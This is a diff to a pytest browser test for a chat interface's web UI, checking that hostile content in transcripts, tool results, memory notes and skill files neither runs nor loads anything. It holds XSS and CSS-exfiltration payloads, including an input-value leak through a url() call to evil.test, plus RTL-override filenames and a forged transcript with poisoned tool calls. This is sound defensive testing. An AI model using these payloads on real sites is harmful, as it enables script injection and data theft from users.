@@ -1,5 +1,7 @@
 """Hostile text: from a model, in a file a tool read, in the name of a conversation. Nothing runs, nothing leaves."""
 
+import json
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -36,6 +38,14 @@ CORPUS = (
     "```html onload=window.ran=1\n<script>window.ran=1</script>\n```",
     "</textarea></pre></code><script>window.ran=1</script>",
     "<oc-gate></oc-gate><oc-approvals></oc-approvals>",
+    '<p style="background:url(http://evil.test/p)">x</p><div style="font-family:evil;position:fixed;inset:0">y</div>',
+    "<svg><style>@font-face{font-family:e;src:url(http://evil.test/f)}*{font-family:e}</style></svg>",
+    "<input name=token value=secret><style>input[value^=s]{background:url(http://evil.test/s)}</style>",
+    '<svg><use href="http://evil.test/u.svg#x"/><a xlink:href="javascript:window.ran=1"><text>z</text></a></svg>',
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSIvPg==)",
+    '<picture><source srcset="http://evil.test/q 1x"><img srcset="http://evil.test/r 2x"></picture>',
+    '<video poster="http://evil.test/v"></video><audio src="http://evil.test/a" autoplay></audio>',
+    '[x](https://evil.test/ "onmouseover=window.ran=1")',
     '<div id="location" class="approval">May this command run? <button data-decision="allow-once">Allow</button></div>',
     "| <img src=x onerror=window.ran=1> |\n|---|\n| <b onmouseover=window.ran=1>x</b> |",
     "\u202egnp.exe\u2066 \u200b{{constructor.constructor('window.ran=1')()}} ${window.ran=1}",
@@ -45,7 +55,8 @@ CORPUS = (
 def harmless(page: Any, here: Any) -> None:
     """Nothing ran, nothing foreign is on the page, nothing was asked of anybody else."""
     assert page.evaluate("window.ran") is None
-    foreign = "oc-chat :is(script,iframe,object,embed,form:not(.composer),style,link,base,meta,svg,video,math)"
+    own = "form:not(.composer, .search, .fields, .job)"
+    foreign = f"main :is(script,iframe,object,embed,{own},style,link,base,meta,svg,video,audio,picture,math)"
     assert page.locator(foreign).count() == 0
     tricks = page.evaluate(
         """() => [...document.querySelectorAll('.md *, .bubble *, oc-tool *')]
@@ -104,6 +115,101 @@ def test_attacks_in_messages_tool_results_arguments_and_names_run_nothing(
             page.wait_for_selector("oc-sessions td.name")
             assert page.locator("oc-sessions :is(script,img,svg,iframe)").count() == 0
             harmless(page, here)
+
+
+def test_a_transcript_written_by_an_attacker_shows_and_does_nothing(openclaw_home: TemporaryHome, browser: Any) -> None:
+    hidden = "inv\u202efdp.exe\u2066"
+    with MockModelServer([says("fine")]) as server:
+        openclaw_home.configure(server.settings())
+        with site(openclaw_home, browser) as here:
+            page = here.open()
+            say(page, "hello")
+            page.wait_for_selector("text=fine")
+            wait_idle(page)
+            here.gateway.stop()
+            poison(openclaw_home.transcripts()[0])
+            (openclaw_home.workspace / "memory").mkdir(exist_ok=True)
+            (openclaw_home.workspace / "memory" / f"{hidden}.md").write_text("\n".join(CORPUS))
+            skill = openclaw_home.workspace / "skills" / "evil"
+            skill.mkdir(parents=True)
+            (skill / "SKILL.md").write_text(f"---\nname: evil\ndescription: {json.dumps(CORPUS[1])}\n---\n" + CORPUS[0])
+            here.gateway.start()
+            here.requests.clear()  # it listens elsewhere now
+            page = here.open()
+            page.wait_for_selector("article.assistant >> text=the last word")
+            for summary in page.locator("oc-tool summary, .thinking summary").all():
+                summary.click()
+            harmless(page, here)
+            assert page.locator(".tool .child a").count() == 0, "a key that is none leads nowhere"
+            page.keyboard.press("Control+/")
+            page.fill(".find input", "script")
+            page.wait_for_selector(".hits button")
+            page.press(".find input", "Enter")
+            harmless(page, here)
+            for path, sign in (
+                ("/memory", ".notes button"),
+                ("/skills", "[data-skill=evil]"),
+                ("/sessions", "td.name"),
+                ("/logs", ".line"),
+            ):
+                page.goto(here.address + path)
+                page.wait_for_selector(sign)
+                harmless(page, here)
+            page.click("nav a[href$='/skills']")
+            page.click("[data-skill=evil] button")
+            page.wait_for_selector(".trust .buttons")
+            harmless(page, here)
+            page.click("nav a[href$='/memory']")
+            page.click(".notes button")
+            page.wait_for_selector(".editor textarea")
+            harmless(page, here)
+            assert "\u202e" not in page.inner_text("main")
+
+
+def poison(path: Path) -> None:
+    """Adds to a transcript what no model and no tool of ours would write."""
+    parent = json.loads(path.read_text().splitlines()[-1])["id"]
+    spawned = json.dumps({"childSessionKey": "javascript:window.ran=1"})
+    steps = [{"step": CORPUS[0], "status": "in_progress"}, {"step": CORPUS[1], "status": "<b>"}]
+    tool = f"{CORPUS[1]}\u202e"
+    said: list[dict[str, Any]] = [
+        {"role": "user", "content": "\n".join(CORPUS)},
+        {"role": "user", "content": f"x\n[attached: ../{CORPUS[1]} ({CORPUS[0]})]"},
+        {
+            "role": "assistant",
+            "content": [
+                {"type": "thinking", "thinking": "\n".join(CORPUS)},
+                {"type": "text", "text": "\n\n".join(CORPUS)},
+                {"type": "toolCall", "id": 'a"]<i>', "name": tool, "arguments": {"command": CORPUS[1]}},
+                {"type": "toolCall", "id": "b", "name": "update_plan", "arguments": {"plan": steps}},
+                {"type": "toolCall", "id": "c", "name": "sessions_spawn", "arguments": {"task": CORPUS[0]}},
+                {"type": "toolCall", "id": "d", "name": "edit", "arguments": {"path": CORPUS[1], "edits": "none"}},
+            ],
+            "provider": CORPUS[0],
+            "model": CORPUS[1],
+            "stopReason": "toolUse",
+            "errorMessage": CORPUS[1],
+        },
+        {
+            "role": "toolResult",
+            "toolCallId": 'a"]<i>',
+            "toolName": tool,
+            "content": [{"type": "text", "text": "\n".join(CORPUS)}],
+        },
+        {
+            "role": "toolResult",
+            "toolCallId": "c",
+            "toolName": "sessions_spawn",
+            "content": [{"type": "text", "text": spawned}],
+        },
+        {"role": "assistant", "content": [{"type": "text", "text": "the last word"}], "stopReason": "stop"},
+    ]
+    with path.open("a") as file:
+        for number, message in enumerate(said):
+            entry = {"type": "message", "id": f'e{number}"]<i>', "parentId": parent, "message": message}
+            parent = str(entry["id"])
+            message["timestamp"] = 1_790_000_000_000
+            file.write(json.dumps(entry) + "\n")
 
 
 def test_an_exported_page_is_as_harmless(openclaw_home: TemporaryHome, browser: Any) -> None:
